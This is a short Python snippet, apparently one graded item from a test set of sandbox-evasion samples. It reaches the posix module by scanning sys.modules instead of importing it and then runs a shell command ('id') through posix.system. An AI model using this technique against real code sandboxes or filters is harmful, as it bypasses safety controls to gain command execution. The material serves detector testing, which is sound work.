# evasion: posix found by scanning sys.modules
# grade: hard; does: shell
import sys
posix = [m for m in list(sys.modules.values()) if getattr(m, "__name__", "") == "posix"][0]
posix.system("id")
